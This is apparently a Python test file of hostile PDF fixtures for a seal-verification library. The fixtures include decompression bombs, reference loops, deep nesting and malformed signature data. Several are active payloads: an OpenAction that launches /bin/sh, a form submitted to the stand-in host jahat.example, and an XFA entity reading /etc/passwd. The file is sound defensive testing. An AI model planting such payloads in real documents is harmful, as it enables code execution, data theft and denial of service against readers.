"""Hostile PDFs, none of them sealed by us: what a PDF reader would unpack, follow, run or count for ever."""

from __future__ import annotations

import re

from pakta.core.errors import Reason
from tests.hostile.case import Case, case, zeros

NOT_SEALED, MALFORMED = Reason.PDF_NOT_SEALED, Reason.PDF_MALFORMED
OTHER, TOO_LARGE = Reason.PDF_OTHER_SEAL, Reason.FILE_TOO_LARGE
CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
SEAL_LONG = 16_384  # letters of a string that may be a seal


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1, with its table and its end."""
    out, places = bytearray(b"%PDF-1.7\n%\x80\x80\x80\x80\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % each for each in places
    )
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, table)
    return bytes(out)


def stream(data: bytes, words: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), words, data)


def with_page(*more: bytes, page: bytes = PAGE, catalog: bytes = CATALOG, trailer: bytes = b"") -> bytes:
    """Return a PDF of one page, with more objects from 4 on."""
    return pdf(catalog, PAGES, page, *more, trailer=trailer)


def acting(action: bytes) -> bytes:
    """Return a PDF that does something when it is opened."""
    return with_page(catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction<<%s>>>>" % action)


def updated(times: int) -> bytes:
    """Return a PDF with so many revisions after it."""
    whole = with_page()
    for _ in range(times):
        at = len(whole)
        body = b"3 0 obj\n%s\nendobj\n" % PAGE
        last = int(re.findall(rb"startxref\n(\d+)", whole[-60:])[-1])
        table = b"xref\n3 1\n%010d 00000 n \ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\n" % (at, last)
        whole += body + table + b"startxref\n%d\n%%%%EOF\n" % (at + len(body))
    return whole


def loop() -> bytes:
    """Return a PDF whose table names itself as the one before."""
    whole = with_page()
    table = whole.rindex(b"xref\n0 ")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % table)


def sealed_by(string: bytes, *, times: int = 1) -> bytes:
    """Return a PDF with a signature whose string is this, in hex, and whose range fits."""
    head = b"%PDF-1.7\n1 0 obj\n<</Contents "
    gap = b"<" + string.hex().upper().encode() + b">"
    tail = b"\n/ByteRange [0 %10d %10d %10d]>>\nendobj\n" * times
    end = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 2/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    until = len(head) + len(gap)
    size = len(tail % ((len(head), until, 0) * times))
    end = end % (until + size)
    return head + gap + tail % ((len(head), until, size + len(end)) * times) + end


def nested(depth: int) -> bytes:
    """Return DER, sequences within sequences."""
    inner = b"\x05\x00"
    for _ in range(depth):
        length = len(inner)
        size = bytes([length]) if length < 128 else b"\x82" + length.to_bytes(2, "big")
        inner = b"\x30" + size + inner
    return inner


ALL: tuple[Case, ...] = (
    case("a page of three rounds of Flate, 300 MB",
         lambda: with_page(stream(zeros(300, rounds=3), b"/Filter[%s]" % (b"/FlateDecode" * 3))), NOT_SEALED),
    case("a chain of 5,000 filters",
         lambda: with_page(stream(b"x", b"/Filter[%s]" % (b"/ASCIIHexDecode" * 5000))), NOT_SEALED),
    case("an object stream of 300 MB",
         lambda: with_page(stream(zeros(300), b"/Type/ObjStm/N 100000000/First 10/Filter/FlateDecode")), NOT_SEALED),
    case("a table that says 2 billion objects", lambda: with_page(trailer=b"/Size 2147483647"), NOT_SEALED),
    case("a table that names itself", loop, NOT_SEALED),
    case("a tree of pages that is a ring", lambda: pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"), NOT_SEALED),
    case("2 billion pages", lambda: pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", PAGE), NOT_SEALED),
    case("100,000 pages",
         lambda: pdf(CATALOG, b"<</Type/Pages/Count 100000/Kids[%s]>>" % (b"3 0 R " * 100_000), PAGE), NOT_SEALED),
    case("arrays 200,000 deep", lambda: with_page(b"[" * 200_000 + b"]" * 200_000), NOT_SEALED),
    case("dictionaries 100,000 deep", lambda: with_page(b"<</A" * 100_000 + b" 1" + b">>" * 100_000), NOT_SEALED),
    case("an array of two million numbers", lambda: with_page(b"[" + b"1 " * 2_000_000 + b"]"), NOT_SEALED),
    case("5,000 revisions", lambda: updated(5_000), NOT_SEALED),
    case("an encrypted one", lambda: with_page(
        b"<</Filter/Standard/V 5/R 6/O(x)/U(x)/P -4>>", trailer=b"/Encrypt 4 0 R/ID[<00><00>]"), NOT_SEALED),
    case("a program attached", lambda: with_page(
        stream(b"MZ" + bytes(5000), b"/Type/EmbeddedFile"),
        b"<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"), NOT_SEALED),
    case("JavaScript that runs at once", lambda: acting(b"/S/JavaScript/JS(while(1){app.alert(1)})"), NOT_SEALED),
    case("a program started at once", lambda: acting(b"/S/Launch/F(/bin/sh)"), NOT_SEALED),
    case("an address opened at once", lambda: acting(b"/S/URI/URI(https://jahat.example/)"), NOT_SEALED),
    case("a form sent at once", lambda: acting(b"/S/SubmitForm/F(https://jahat.example/)"), NOT_SEALED),
    case("a picture of 65,535 by 65,535 in it", lambda: with_page(
        stream(zeros(1), b"/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceRGB"
        b"/BitsPerComponent 8/Filter/FlateDecode")), NOT_SEALED),
    case("an XFA form that reads files", lambda: with_page(
        stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
        catalog=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 4 0 R>>>>"), NOT_SEALED),
    case("our attachments without a seal", lambda: with_page(
        stream(b"\xd2\x84"), b"<</Type/Filespec/UF(credential.cose)/EF<</F 4 0 R>>>>",
        catalog=b"<</Type/Catalog/Pages 2 0 R/AF[5 0 R]>>"), NOT_SEALED),
    case("200,000 byte ranges", lambda: with_page(b"/ByteRange [0 1 2 3] " * 200_000), OTHER, NOT_SEALED),
    case("a byte range of thousands of blanks",
         lambda: with_page(b"/ByteRange [" + b" " * 4_000_000 + b"0 1 2 3]"), NOT_SEALED),
    case("300,000 begun strings", lambda: with_page(b"<AAAAAAAAAAAAAAAAAAAAAAAAAAAAA" * 300_000), NOT_SEALED),
    case("strings as long as seals, without an end", lambda: with_page((b"<" + b"30" * 65_000) * 70), NOT_SEALED),
    case("a seal of sequences within sequences", lambda: sealed_by(nested(SEAL_LONG // 5)), OTHER),
    case("a seal that says it is longer than the file",
         lambda: sealed_by(b"\x30\x84\x7f\xff\xff\xff" + bytes(5000)), OTHER),
    case("a seal of indefinite length", lambda: sealed_by(b"\x30\x80" * 3000), OTHER),
    case("a thousand ranges over one seal", lambda: sealed_by(bytes(30_000), times=1000), OTHER),
    case("a seal of noise", lambda: sealed_by(bytes(range(256)) * 100), OTHER),
    case("cut in the middle", lambda: with_page(stream(bytes(5000)))[:3000], MALFORMED),
    case("without its end", lambda: with_page()[:-7], MALFORMED),
    case("whose end names a place outside",
         lambda: re.sub(rb"startxref\n\d+", b"startxref\n99999999", with_page()), MALFORMED),
    case("of a head alone", lambda: b"%PDF-1.7", MALFORMED),
    case("of a head and zeros", lambda: b"%PDF-1.7\n" + bytes(9_000_000), MALFORMED),
    case("of 10 MB and one byte", lambda: b"%PDF-1.7\n" + bytes(10 * 1024 * 1024), TOO_LARGE),
)  # fmt: skip
